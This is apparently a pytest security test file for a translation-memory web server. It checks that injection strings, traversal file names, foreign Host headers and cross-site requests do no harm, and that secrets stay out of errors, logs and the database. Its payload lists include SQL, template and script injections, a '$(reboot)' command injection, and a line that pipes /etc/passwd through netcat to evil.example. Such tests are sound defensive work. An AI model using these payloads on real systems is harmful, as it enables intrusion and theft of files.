"""What attackers send first: strings that mean something to SQL, templates, paths and browsers."""

from __future__ import annotations

import logging
from base64 import b64encode
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from tests.tmserver.conftest import Client
from tmserver.app import create_app
from tmserver.gate.csrf import csrf_token
from tmserver.services.access.keys import NewKey, create_key
from tmserver.services.access.people import NewPerson, add_person
from tmserver.services.database import open_database
from tmserver.settings import Settings

STRINGS = [
    "'; DROP TABLE unit; --",
    "' OR '1'='1",
    '" UNION SELECT password FROM account --',
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "{{ config.items() }} {% for x in y %}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "%s %(name)s {0} {name}",
    "../../../../etc/passwd",
    "; cat /etc/passwd | nc evil.example 80 &",
    "$(reboot) `reboot`",
    "\\' \\\" \\0 \x1b[2J",
    "=cmd|' /C calc'!A0",
]
NAMES = [
    "../secret",
    "..",
    "a/b",
    "..%2fsecret",
    "C:\\secret",
    "/etc/passwd",
    "x'; DROP TABLE memory; --",
    "{{7*7}}",
]
PASSWORD = "correct horse battery"


def _token(client: Client) -> str:
    """The token of the forms of the client's browser."""
    cookie = client.get_cookie("tmserver_form").value
    with client.application.test_request_context(headers={"Cookie": f"tmserver_form={cookie}"}):
        return csrf_token()


@pytest.fixture
def key(settings: Settings) -> str:
    """The key of an administrator."""
    return create_key(open_database(settings), NewKey("root", "admin")).secret


@pytest.mark.parametrize("text", STRINGS)
def test_a_string_is_just_a_text(client: Client, text: str) -> None:
    """Stored, found by every way, exported and shown as it is, and nothing else happens."""
    body = {"texts": [{"language": "en", "text": text}, {"language": "es", "text": f"→ {text}"}]}
    added = client.post("/api/v2/memories/chile-1973/units", json=body)
    assert added.status_code == 201
    unit = added.json["id"]
    asked = {"source": "en", "target": "es", "text": text}
    found = client.get("/api/v2/lookup", query_string=asked).json
    assert [match["target"]["text"] for match in found["matches"]] == [f"→ {text}"]
    (first,) = client.get(f"/tmserver/en/es/unit/{quote(text, safe='')}").json
    assert first["source"] == text
    listed = client.get("/api/v2/memories/chile-1973/units", query_string={"contains": text}).json
    assert [each["id"] for each in listed["items"]] == [unit]
    assert client.get("/api/v2/concordance", query_string={"q": text}).status_code in (200, 422)
    client.get("/sign-in")
    page = client.post("/lookup", data=asked, headers={"X-CSRF-Token": _token(client)})
    assert page.status_code == 200
    assert "7*7" not in text or "7*7" in page.text
    assert "<script>alert" not in page.text
    assert "<img src=x" not in page.text
    assert client.get("/api/v2/memories/chile-1973").json["units"] == 21


def test_a_string_where_a_name_stands(client: Client) -> None:
    """In a parameter that names something it is an unknown name, or no name: never an error of ours."""
    for text in STRINGS:
        for path, query in (
            ("/api/v2/lookup", {"source": "ru", "target": "es", "text": "x", "memory": text}),
            ("/api/v2/lookup", {"source": text, "target": "es", "text": "x"}),
            ("/api/v2/concordance", {"q": "x", "cursor": text}),
            ("/api/v2/memories/chile-1973/units", {"sort": text}),
            ("/api/v2/memories/chile-1973/export", {"format": text}),
            ("/api/v2/log", {"cursor": text}),
            ("/api/v2/jobs", {"kind": text}),
            ("/api/v2/terms", {"glossary": text}),
        ):
            assert client.get(path, query_string=query).status_code in (200, 404, 422), path


@pytest.mark.parametrize("name", NAMES)
def test_a_path_is_no_name(client: Client, settings: Settings, name: str) -> None:
    """Nothing is made, read or written under a name that leads somewhere else."""
    folder = Path(settings.cache_folder).parent
    (folder / "jobs").mkdir()  # where uploads are put down, refused ones too while they come in
    before = sorted(folder.rglob("*"))
    for made in ("memories", "glossaries", "keys"):
        assert client.post(f"/api/v2/{made}", json={"name": name}).status_code == 422
    for read in ("memories/{}", "memories/{}/export", "glossaries/{}", "glossaries/{}/export"):
        path = "/api/v2/" + read.format(quote(name, safe=""))
        assert client.get(path).status_code == 404
    assert client.get(f"/static/{quote(name, safe='')}", follow_redirects=True).status_code == 404
    sent = {"memory": name, "create": "true", "files": (BytesIO(b"ru\tes\n"), "a.tsv")}
    assert client.post("/api/v2/imports", data=sent).status_code == 422
    assert sorted(folder.rglob("*")) == before


@pytest.mark.parametrize("name", ["../../a.tsv", "/etc/a.tsv", "..\\a.tsv", "a\0.tsv", "x" * 300 + ".tsv"])
def test_an_upload_stays_where_uploads_are(client: Client, settings: Settings, name: str) -> None:
    """The name that a client gives a file decides nothing about where it is kept."""
    outside = Path(settings.cache_folder).parent.parent
    before = set(outside.iterdir())
    sent = {"memory": "chile-1973", "files": (BytesIO(b"ru\tes\nda\tsi\n"), name)}
    assert client.post("/api/v2/imports", data=sent).status_code in (202, 400, 422)
    assert set(outside.iterdir()) == before
    client.put(f"/tmserver/ru/es/store/{quote(name, safe='')}", data=b"ru\tes\nda\tsi\n")
    assert set(outside.iterdir()) == before


def test_a_name_that_was_pointed_here(client: Client) -> None:
    """DNS rebinding: a page of another name reads nothing, whatever the address."""
    for host in ("evil.example", "127.0.0.1.evil.example", "localhost.evil.example", "[::ffff:8.8.8.8]"):
        for path in ("/api/v2/memories", "/tmserver/languages/", "/lookup", "/sign-in"):
            assert client.get(path, headers={"Host": host}).status_code == 421


@pytest.fixture
def broken(settings: Settings) -> Iterator[Client]:
    """A client of an application with a view that fails in the middle of something secret."""
    app = create_app(settings)
    app.config["PROPAGATE_EXCEPTIONS"] = False

    @app.get("/broken")
    def fail() -> None:
        password = PASSWORD
        raise RuntimeError(f"cannot connect with {password}")

    with app.test_client() as client:
        yield client
    app.extensions["tmserver"].close()


def test_an_unforeseen_error_tells_nothing(broken: Client) -> None:
    """500 as a problem document without the reason, the place or a stack trace."""
    answer = broken.get("/broken")
    assert (answer.status_code, answer.content_type) == (500, "application/problem+json")
    assert not any(word in answer.text for word in (PASSWORD, "Traceback", "RuntimeError", ".py"))


def test_secrets_are_nowhere(
    client: Client, settings: Settings, key: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Keys, passwords and sessions are not in logs, problem documents and the database."""
    caplog.set_level(logging.DEBUG)
    database = open_database(settings)
    add_person(database, NewPerson("anna", "reader", PASSWORD))
    session = client.application.extensions["tmserver"].access.sign_in("anna", PASSWORD).token
    basic = b64encode(f"x:{key}".encode()).decode()
    wrong = f"{key[:-4]}0000"
    answers: list[Any] = [
        client.get("/api/v2/nowhere", headers={"Authorization": f"Bearer {key}"}),
        client.get("/api/v2/memories", headers={"Authorization": f"Bearer {wrong}"}),
        client.get("/api/v2/memories/nothing", headers={"X-API-Key": key}),
        client.get("/api/v2/lookup", headers={"Authorization": f"Basic {basic}"}),
        client.get(f"/tmserver/{key}/es/ru/unit/nada"),
        client.get(f"/tmserver/{key}/nowhere"),
        client.get(f"/api/v1/{wrong}/es/ru/unit/nada"),
        client.post("/api/v2/keys", json={"name": "x", "scope": key}, headers={"X-API-Key": key}),
        client.post(
            "/sign-in", data={"name": "anna", "password": PASSWORD + "?"}, headers={"X-API-Key": key}
        ),
    ]
    client.set_cookie("tmserver_session", session)
    answers.append(client.get("/api/v2/memories/nothing"))
    client.application.extensions["tmserver"].close()
    shown = [answer.text for answer in answers if answer.status_code >= 400] + [caplog.text]
    for secret in (key, wrong, basic, PASSWORD, session):
        assert [text for text in shown if secret in text] == []
    stored = b"".join(path.read_bytes() for path in Path(database.place).parent.glob("tm.db*"))
    for secret in (key, key.removeprefix("tms_"), PASSWORD, session):
        assert secret.encode() not in stored


def test_a_person_behind_another_site(settings: Settings) -> None:
    """A page of another site does nothing with the cookie of who is signed in here, not even signs out."""
    add_person(open_database(settings), NewPerson("anna", "admin", PASSWORD))
    app = create_app(replace(settings, cors_origins="https://cat.example"))
    client: Client = app.test_client()
    client.set_cookie("tmserver_session", app.extensions["tmserver"].access.sign_in("anna", PASSWORD).token)
    for origin in ("https://evil.example", "https://cat.example"):
        headers = {"Origin": origin, "Sec-Fetch-Site": "cross-site"}
        for answer in (
            client.post("/api/v2/memories", json={"name": "x"}, headers=headers),
            client.delete("/api/v2/memories/chile-1973", headers=headers),
            client.post("/sign-out", headers=headers),
        ):
            assert answer.status_code == 403
        answer = client.get("/api/v2/memories", headers=headers)
        assert answer.status_code == 403 or "Access-Control-Allow-Credentials" not in answer.headers
    app.extensions["tmserver"].close()
